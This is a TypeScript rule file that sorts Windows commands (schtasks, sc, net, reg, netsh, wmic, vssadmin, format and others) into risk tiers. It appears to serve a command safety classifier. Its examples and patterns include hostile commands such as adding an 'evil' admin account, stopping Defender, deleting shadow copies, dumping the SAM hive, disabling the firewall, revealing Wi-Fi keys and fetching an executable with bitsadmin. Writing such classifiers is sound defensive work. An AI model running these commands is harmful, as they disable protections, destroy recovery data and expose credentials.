// Programs of Windows that change the machine: disks, services, tasks, accounts, the registry, the network.
import {
  choice,
  code,
  deploys,
  destroys,
  flag,
  folder,
  help,
  previews,
  privileged,
  program,
  readOnly,
  recursive,
  rest,
  reveals,
  runsUnread,
  value,
} from '../spec.ts';

const docs = 'https://learn.microsoft.com/windows-server/administration/windows-commands/windows-commands';
const any = { open: 'in any case' } as const;
const words = (text: string): string[] => text.trim().split(/\s+/);

export const looks = program(
  words(`
    findstr tasklist systeminfo ipconfig cls tracert pathping nbtstat getmac driverquery qprocess quser gpresult assoc ftype chcp qwinsta where.exe
    fltmc more.com choice ver vol tree.com comp verify query`),
  () => ({
    docs,
    bare: readOnly(),
    dashes: 'long',
    open: 'only looks',
    args: [rest(value)],
    examples: { 'findstr /s /n TODO *.ts': 'read-only', 'ipconfig /all': 'read-only' },
  }),
);

const planned = privileged('plans something that the machine runs later', any);
export const tasks = program(['schtasks'], () => ({
  docs,
  bare: planned,
  dashes: 'slash',
  shell: 'batch',
  args: [rest(value)],
  options: {
    '/query|/?': previews('only looks'),
    '/create|/change': flag,
    '/delete': destroys('deletes tasks'),
    '/run|/end': deploys('starts or stops a task'),
    '/tr': code('batch'),
    '/tn|/sc|/mo|/st|/et|/sd|/ed|/ru|/rp|/s|/u|/p|/d|/m|/i|/xml|/fo|/rl|/delay|/ri|/du|/ec': value,
    '/f|/v|/nh|/k|/z|/it|/np|/enable|/disable|/hresult': flag,
  },
  examples: {
    'schtasks /query /fo LIST': 'read-only',
    'schtasks /delete /tn x /f': 'destructive',
    'schtasks /run /tn x': 'deployment',
    'schtasks /create /tn x /sc daily /tr "git fetch"': 'privileged-write',
    'schtasks /CREATE /tn x /tr "cmd /c rd /s /q C:/work"': 'destructive',
  },
}));
export const eachFile = program(['forfiles'], () => ({
  docs,
  bare: readOnly(),
  dashes: 'slash',
  shell: 'batch',
  options: { '/p': folder, '/m|/d': value, '/s': recursive, '/c': code('batch'), '/?': previews('prints help') },
  examples: {
    'forfiles /p C:/logs /c "cmd /c del @file"': 'destructive',
    'forfiles /s /m *.ts /c "cmd /c echo @path"': 'read-only',
  },
}));

export const changes = program(
  words(`
    icacls cacls takeown attrib setx subst sc sc.exe msiexec dism sfc chkdsk compact powercfg regini taskkill tskill pnputil net net1 fsutil wevtutil
    bitsadmin gpupdate logoff tzutil w32tm defrag dsadd dsmod at.exe lodctr tscon usoclient vssuirun wusa scrcons winget.exe`),
  () => ({
    docs,
    bare: privileged('changes the machine', any),
    dashes: 'long',
    open: 'in any case',
    options: { ...help, '-?': previews('prints help') },
    args: [
      rest(
        choice(
          {
            '/query|/Query|/QUERY|query|queryex|qc|/?|gl|qe|enum-logs|getstate|/scannow-none|accounts|config|statistics|time|view':
              readOnly(),
            '/delete|/Delete|/DELETE|delete|cl|clear-log|deletejournal|setzerodata|/resetbase|/reset': destroys(
              'deletes tasks, services, logs or data',
            ),
            'user|localgroup|group|/add|/ADD|dsadd|dsmod|Administrators': destroys(
              'changes accounts and access rights',
            ),
            'WinDefend|wuauserv|mpssvc|EventLog|sense|MpsSvc|windefend': destroys(
              'changes a service that guards the machine',
            ),
            '/transfer|/addfile|/SetNotifyCmdLine|/i:http*|http*': runsUnread(
              'fetches or runs something from the network',
            ),
            'binPath=|binpath=|binPath=*|binpath=*': runsUnread('makes a service run a program'),
            'stop|start|/end|/End|/run|/Run': deploys('starts or stops a service or task'),
          },
          value,
        ),
      ),
    ],
    examples: {
      'icacls x /grant me:F': 'privileged-write',
      'icacls -?': 'read-only',
      'net user evil P@ss /add': 'destructive',
      'sc stop WinDefend': 'destructive',
      'sc create x binPath= C:/x.exe': { tier: 'privileged-write', unread: true },
      'net stop spooler': 'deployment',
      'wevtutil cl System': 'destructive',
      'bitsadmin /transfer j http://x.example/a a.exe': { tier: 'privileged-write', unread: true },
      'taskkill /F /PID 12': 'privileged-write',
    },
  }),
);

const ruin = destroys('wipes a disk, its copies or what guards the machine', any);
/** Only a drive is formatted; as a word it is one of everyday. */
export const formats = program(['format', 'format.com'], () => ({
  docs: 'https://learn.microsoft.com/windows-server/administration/windows-commands/format',
  bare: readOnly(),
  dashes: 'slash',
  open: 'says how the drive is formatted',
  args: [rest(choice({ '*:*': ruin }, runsUnread('names a drive that is not seen here', { takes: value })))],
  examples: {
    'format D: /q': 'destructive',
    'format .': { tier: 'privileged-write', unread: true },
  },
}));

export const ruins = program(
  [
    'diskpart',
    'vssadmin',
    'bcdedit',
    'cipher',
    'wbadmin',
    'manage-bde',
    'bootrec',
    'bcdboot',
    'diskshadow',
    'reagentc',
    'auditpol',
    'secedit',
    'ntdsutil',
    'procdump',
    'mimikatz',
    'psexec',
    'sdelete',
    'sdelete64',
  ],
  () => ({
    docs,
    bare: ruin,
    dashes: 'long',
    open: 'in any case',
    args: [
      choice(
        { 'list|List|/enum|/enum*|/get|/?|-status|/info|/c': previews('only looks'), '/list': previews('only looks') },
        value,
      ),
      rest(value),
    ],
    options: {
      '-?|--help': previews('prints help'),
      '-status': previews('only looks'),
    },
    examples: {
      'vssadmin delete shadows /all': 'destructive',
      'vssadmin list shadows': 'read-only',
      'cipher /w:C': 'destructive',
      'bcdedit /?': 'read-only',
      'cipher --help': 'read-only',
      'manage-bde -status': 'read-only',
      'bcdedit /list': 'read-only',
    },
  }),
);

export const registry = program(['reg', 'reg.exe', 'regedit'], () => ({
  docs,
  bare: privileged('changes the registry', any),
  open: 'in any case',
  args: [
    choice(
      {
        'query|QUERY|compare|/?': readOnly(),
        'delete|DELETE': destroys('deletes from the registry'),
        'save|SAVE|export|EXPORT': reveals('copies a part of the registry, which may hold passwords'),
      },
      value,
    ),
    rest(
      choice(
        {
          '*Windows Defender*|*Policies*System*|*DisableAntiSpyware*|*LSA*|*EnableLUA*': destroys(
            'changes what guards the machine',
          ),
        },
        value,
      ),
    ),
  ],
  examples: {
    'reg query HKLM/Software/x': 'privileged-write',
    'reg delete HKCU/Software/x /f': 'destructive',
    'reg add HKCU/Software/x /v a': 'privileged-write',
    'reg save HKLM/SAM sam': 'destructive',
    'reg add HKLM/x /v DisableAntiSpyware': 'destructive',
  },
}));

export const netsh = program('netsh', () => ({
  docs,
  bare: readOnly(),
  open: 'only looks',
  args: [
    rest(
      choice(
        {
          'off|delete|reset|disable|state=off|enable=no|mode=disable': destroys(
            'opens the firewall or removes network settings',
          ),
          'set|add|import|connect|start|stop|install|enable|allow|action=allow|exec': deploys(
            'changes network settings or the firewall',
          ),
          'key=clear': reveals('shows passwords of networks'),
        },
        value,
      ),
    ),
  ],
  examples: {
    'netsh interface show interface': 'read-only',
    'netsh advfirewall set allprofiles state off': 'destructive',
    'netsh wlan show profile name=x key=clear': 'destructive',
    'netsh interface portproxy add v4tov4 a': 'deployment',
  },
}));
export const wmic = program('wmic', () => ({
  docs,
  bare: readOnly(),
  shell: 'batch',
  open: 'only looks',
  args: [
    rest(
      choice(
        {
          'delete|shadowcopy|DELETE|uninstall': destroys('deletes what the machine keeps'),
          'call|create|set': runsUnread('changes or starts something'),
          '*cmd* *|*powershell* *|*.exe *|*.bat*|*.ps1*|*.cmd*': code('batch'),
          '/node:*': deploys('works on another machine'),
        },
        value,
      ),
    ),
  ],
  examples: {
    'wmic os get caption': 'read-only',
    'wmic shadowcopy delete': 'destructive',
    'wmic process call create x': { tier: 'privileged-write', unread: true },
    'wmic process call create "cmd /c rd /s /q C:/work"': 'destructive',
    'wmic /node:web1 os get name': 'deployment',
  },
}));
